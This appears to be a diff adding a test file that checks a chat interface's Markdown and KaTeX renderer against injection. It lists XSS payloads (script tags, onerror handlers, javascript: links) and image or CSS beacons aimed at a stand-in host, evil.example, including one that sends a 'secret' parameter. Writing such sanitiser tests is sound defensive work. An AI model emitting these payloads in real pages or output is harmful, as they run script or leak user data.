@@ -1,0 +1,128 @@
+import katex from "katex";
+import { NextIntlClientProvider } from "next-intl";
+import { renderToStaticMarkup } from "react-dom/server";
+import ReactMarkdown from "react-markdown";
+import { beforeAll, describe, expect, it } from "vitest";
+import messages from "#i18n/en.json" with { type: "json" };
+import type { Citation } from "#lib/conversation/schema.ts";
+import { CitationContext } from "./citation-mark.tsx";
+import { loadMath, Markdown } from "./markdown.tsx";
+import { mathOptions } from "./math-engine.ts";
+
+const citations: Citation[] = [
+  { number: 1, documentId: "doc_1", title: 'A "<b>guide</b>"', headingPath: [], excerpt: "" },
+];
+
+function render(text: string, isStreaming = false): string {
+  return renderToStaticMarkup(
+    <NextIntlClientProvider locale="en" timeZone="UTC" messages={messages}>
+      <CitationContext value={{ citations, open: () => {} }}>
+        <Markdown text={text} hasCitations isStreaming={isStreaming} />
+      </CitationContext>
+    </NextIntlClientProvider>,
+  );
+}
+
+const hostile = [
+  "<script>alert(1)</script> <img src=x onerror=alert(1)> <svg/onload=alert(1)>",
+  "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#10;script:alert(1)) [d](vbscript:x)",
+  "[e](data:text/html;base64,PHNjcmlwdD4=) ![f](data:image/svg+xml,<svg/onload=alert(1)>)",
+  "![a](https://evil.example/?d=secret) [![b](https://evil.example/b)](https://evil.example)",
+  "![ref][pic] ![pic]\n\n[pic]: https://evil.example/p.png 'onerror=alert(1)'",
+  '[1](https://evil.example) [[1]](https://evil.example) [x][1] [1]\n[1]: javascript:alert(1) "t"',
+  "[1]: https://evil.example\n\nTrust [1] and [1][] and [words][1]",
+  "<iframe src=//evil.example></iframe><link rel=preload href=//evil.example><style>*{background:url(//evil.example)}</style>",
+  "<form id=config name=config action=//evil.example><input name=attributes><button value=1>x</button></form>",
+  "Note[^1] and [^__proto__]\n\n[^1]: <a name=x id=y href='javascript:1'>z</a>\n[^__proto__]: q",
+  '```"><img src=x onerror=alert(1)>\ncode\n```\n\n~~~html onload=alert(1)\n<script>x</script>\n~~~',
+  "$$\\href{javascript:alert(1)}{x} \\url{javascript:alert(1)} \\includegraphics{https://evil.example/x}$$",
+  "\\(\\htmlId{config}{x} \\htmlClass{y}{x} \\htmlStyle{background:url(//evil.example)}{x} \\htmlData{a=b}{x}\\)",
+  "$$\n\\def\\a{\\a\\a}\\a \\color{url(//evil.example)}x \\style{x}{y}\n$$\n\n```math\n\\href{javascript:1}{x}\n```",
+  "| a | <img src=x onerror=alert(1)> |\n|:-:|---|\n| [x](javascript:1 'id=a') | ![i](//evil.example) |",
+  "# Title <a id=x name=y onclick=alert(1)>z</a> {#id}\n\n- [ ] <input autofocus onfocus=alert(1)>",
+  "<https://evil.example/<script>> <javascript:alert(1)> www.evil.example/<img> [a](<javascript:alert(1)>)",
+  '[x](https://evil.example "onmouseover=alert(1)") &lt;img src=x onerror=alert(1)&gt; &#60;script&#62;',
+];
+
+const allowedTags = new Set(
+  "div p span a strong em del code pre ul ol li blockquote h3 h4 h5 h6 hr br table thead tbody tr th td section button svg path rect input".split(
+    " ",
+  ),
+);
+const mathTags = /^(math|semantics|annotation|m[a-z]+)$/;
+
+/** Only tags and attributes that our own components write; the text itself is escaped and holds no `<`. */
+function expectHarmless(html: string, source: string): void {
+  for (const [, tag, attributes] of html.matchAll(
+    /<([a-zA-Z][\w-]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g,
+  )) {
+    expect(allowedTags.has(tag ?? "") || mathTags.test(tag ?? ""), `<${tag}> from ${source}`).toBe(true);
+    for (const [, name, value] of (attributes ?? "").matchAll(/\s([^\s=>]+)(?:="([^"]*)")?/g)) {
+      const shown = `${tag} ${name}="${value}" from ${source}`;
+      expect(name, shown).not.toMatch(
+        /^(on|id$|name$|src|srcset|poster|action|formaction|ping|background|xlink)/i,
+      );
+      if (name === "href") expect(value, shown).toMatch(/^(https?:|mailto:)/);
+      if (name === "style") expect(value, shown).not.toMatch(/url|expression|import/i);
+      if (tag === "input") expect(["type", "disabled", "checked"], shown).toContain(name);
+      if (tag === "button") expect(name, shown).not.toBe("value");
+    }
+  }
+  expect(html).not.toMatch(/<(script|img|iframe|link|style|object|embed|form|base|meta|video|audio)\b/i);
+}
+
+describe.each(["without", "with"])("hostile text %s math", (math) => {
+  beforeAll(async () => {
+    if (math === "with") await loadMath();
+  });
+
+  it.each(hostile)("%j is harmless at every prefix", (source) => {
+    for (let end = 1; end <= source.length; end++) expectHarmless(render(source.slice(0, end), true), source);
+    expectHarmless(render(source), source);
+    expectHarmless(render(`> ${source}`), source);
+    expectHarmless(render(`- ${source}`), source);
+  });
+});
+
+describe("KaTeX", () => {
+  it.each(hostile)("makes nothing harmful of %j", (source) => {
+    for (const code of [source, source.replace(/\\[()]|\$/g, "")]) {
+      const html = katex.renderToString(code, { ...mathOptions, displayMode: true });
+      expectHarmless(html.replace(/xmlns="[^"]*"/g, ""), source);
+    }
+  });
+});
+
+describe("Markdown", () => {
+  it("turns marks into sources, and only those the server sent can be opened", () => {
+    const html = render("Yes. [1] No. [7] `[1]` [^2]");
+    expect(html).toContain('aria-label="Source 1: A &quot;&lt;b&gt;guide&lt;/b&gt;&quot;"');
+    expect(html).toMatch(/<button[^>]*disabled=""[^>]*aria-label="Source 7 is no longer available"/);
+    expect(html).toContain("<code>[1]</code>");
+    expect(html.match(/<button/g)).toHaveLength(2);
+  });
+
+  it("does not let the text define where a mark leads", () => {
+    const html = render("[1]: https://evil.example\n\nTrust [1], [1](https://evil.example)");
+    expect(html).toContain('class="citation-mark"');
+    expect(html).toContain("(evil.example)");
+    expect(html.match(/href=/g)).toHaveLength(1);
+  });
+
+  it("holds back a half-written mark and heals open emphasis", () => {
+    expect(render("A **bold wo", true)).toContain("<strong>bold wo</strong>");
+    expect(render("Yes. [1", true)).not.toContain("[");
+  });
+
+  it("renders math of every delimiter, and leaves prices alone", async () => {
+    await loadMath();
+    expect(render("$x^2$ \\(y\\)\n\n\\[z\\]").match(/<span[^>]*><\/span>/g)).toHaveLength(3);
+    expect(render("from $5 to $10")).toContain("from $5 to $10");
+  });
+
+  it("renders finished blocks as the whole text would", () => {
+    const source = "# A\n\ntext **b**\n\n- a\n\n- b\n\n> q";
+    const tags = (html: string) => html.match(/<(p|li|ul|blockquote|strong)/g);
+    expect(tags(render(source))).toEqual(tags(renderToStaticMarkup(<ReactMarkdown>{source}</ReactMarkdown>)));
+  });
+});
